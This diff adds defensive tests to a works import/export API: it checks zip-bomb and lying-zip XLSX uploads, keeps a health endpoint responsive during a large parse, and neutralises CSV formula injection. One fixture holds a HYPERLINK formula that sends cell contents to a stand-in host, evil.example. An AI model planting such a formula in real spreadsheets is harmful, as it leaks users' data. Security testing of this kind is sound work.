@@ -8,6 +8,7 @@ import { WORK_COLUMNS } from './format/columns.ts';
 import { parseCsv } from './format/parse-csv.ts';
 import { parseGeoJson } from './format/parse-geojson.ts';
 import { parseXlsx } from './format/parse-xlsx.ts';
+import { bombXlsx, liarXlsx } from './format/zip.test-fixtures.ts';
 
 let t: TestContext;
 let manager: Session;
@@ -166,6 +167,80 @@ describe('import', () => {
   });
 });
 
+describe('upload limits and a server that keeps answering', () => {
+  const jobCount = async () => (await t.db.query<{ n: number }>('SELECT count(*)::int AS n FROM work_import_job')).rows[0]!.n;
+
+  it('refuses at once a small XLSX that unpacks to 300 MB, naming the limit in zh and en, and stores nothing', async () => {
+    const bomb = await bombXlsx(300);
+    const before = await jobCount();
+    const t0 = performance.now();
+    const res = await upload(manager, 'bomb.xlsx', bomb);
+    const ms = performance.now() - t0;
+    expect(res.statusCode, res.body).toBe(413);
+    expect(ms).toBeLessThan(2000);
+    expect(res.json()).toMatchObject({ code: 'WORKS_IMPORT_UNPACKED_TOO_LARGE' });
+    expect(res.json().message).toMatch(/上限 200 MB/);
+    const m = multipart('bomb.xlsx', bomb);
+    const en = await call(t.app, manager, { method: 'POST', url: '/api/works/imports?wait=true', payload: m.payload, headers: { ...m.headers, 'accept-language': 'en' } });
+    expect(en.json().message).toMatch(/unpacks to 30\d MB, more than the 200 MB limit/);
+    expect(await jobCount()).toBe(before);
+  });
+
+  it('reports a zip that unpacks to more than it declares as an invalid job, not a stalled server', async () => {
+    const res = await upload(manager, 'liar.xlsx', await liarXlsx(64));
+    expect(res.statusCode).toBe(200);
+    expect(res.json()).toMatchObject({ status: 'invalid', errorCount: 1 });
+    expect(res.json().errors[0].message).toContain('声明');
+  });
+
+  it('answers /api/health while a large valid workbook is parsed', async () => {
+    const p = uniqueCode('BIG');
+    const wb = new ExcelJS.Workbook();
+    const ws = wb.addWorksheet('工程');
+    ws.addRow(WORK_COLUMNS.map((c) => c.zh));
+    const cells = csvRow({ code: 'X' }).split(',');
+    for (let i = 0; i < 20_000; i++) ws.addRow(cells.map((c, k) => (k === 0 ? `${p}-${i}` : c)));
+    const file = Buffer.from(await wb.xlsx.writeBuffer());
+    let finished = false;
+    const job = upload(manager, 'big.xlsx', file).then((r) => {
+      finished = true;
+      return r;
+    });
+    // A probe every 20 ms: its latency runs from when it was due (a request arriving at the socket does not wait
+    // for our timer) to its answer, so time the event loop spends elsewhere counts, as it does for a real client.
+    const latencies: number[] = [];
+    await new Promise((r) => setTimeout(r, 200));
+    while (!finished && latencies.length < 1000) {
+      const due = performance.now() + 20;
+      await new Promise((r) => setTimeout(r, 20));
+      const h = await t.app.inject({ method: 'GET', url: '/api/health' });
+      if (finished) break;
+      expect(h.statusCode).toBeLessThan(500);
+      latencies.push(performance.now() - due);
+    }
+    const res = await job;
+    expect(res.json()).toMatchObject({ status: 'valid', totalRows: 20_000 });
+    latencies.sort((a, b) => a - b);
+    const max = latencies.at(-1)!;
+    // eslint-disable-next-line no-console -- the measured latency is the point of this case: print it with the result
+    console.info(`health during a 20,000-row XLSX parse: ${latencies.length} answers, p50 ${latencies[latencies.length >> 1]!.toFixed(0)} ms, max ${max.toFixed(0)} ms`);
+    // The parse takes seconds; on the event loop it held /api/health for most of them.
+    expect(latencies.length).toBeGreaterThan(5);
+    expect(max).toBeLessThan(500);
+  });
+
+  it('answers a cut-off multipart upload with 400, not 500', async () => {
+    const boundary = '----civdefCut';
+    const head = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="cut.csv"\r\nContent-Type: text/csv\r\n\r\n${HEADER}\n`;
+    for (const url of ['/api/works/imports?wait=true']) {
+      const res = await call(t.app, manager, { method: 'POST', url, payload: Buffer.from(head), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } });
+      expect(res.statusCode, res.body).toBe(400);
+      expect(res.json()).toMatchObject({ code: 'WORKS_UPLOAD_INCOMPLETE' });
+      expect(res.json().message).toContain('file');
+    }
+  });
+});
+
 describe('export', () => {
   /** Two works of this case only: one with a single unit, one with units A and B (which need the 防护单元 sheet). */
   async function givenExportable() {
@@ -188,6 +263,23 @@ describe('export', () => {
     expect(parsed.works.find((w) => w.work.code === two.code)!.work.units.map((u) => u.name)).toEqual(['A', 'B']);
     const v = await upload(manager, 'roundtrip.xlsx', res.rawPayload);
     expect(v.json()).toMatchObject({ status: 'valid', result: { willCreate: 0, willUpdate: 2 } });
+  });
+
+  it('exports a work named like a formula as text in CSV (no live formula), and it imports back unchanged', async () => {
+    const prefix = uniqueCode('INJ');
+    const name = '=HYPERLINK("http://evil.example/?q="&A1,"点我")';
+    await givenWork(t.app, manager, { code: `${prefix}-1`, name, address: '@SUM(1+1)' });
+    const res = await call(t.app, manager, { method: 'GET', url: `/api/works/export?format=csv&q=${encodeURIComponent(prefix)}` });
+    expect(res.statusCode).toBe(200);
+    const body = res.body.replace(/^\uFEFF/, '');
+    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""点我"")"`);
+    expect(body).toContain(`'@SUM(1+1)`);
+    expect(body.split(/\r\n/).flatMap((line) => line.split(',')).filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);
+    const v = await upload(manager, 'injection.csv', res.rawPayload);
+    expect(v.json()).toMatchObject({ status: 'valid', result: { willCreate: 0, willUpdate: 1 } });
+    expect((await commit(manager, v.json().id)).json().status).toBe('committed');
+    const stored = (await t.db.query<{ name: string; address: string }>('SELECT name, address FROM work WHERE code = $1', [`${prefix}-1`])).rows[0]!;
+    expect(stored).toEqual({ name, address: '@SUM(1+1)' });
   });
 
   it('exports GeoJSON and CSV that parse back without errors; county users export their county only', async () => {
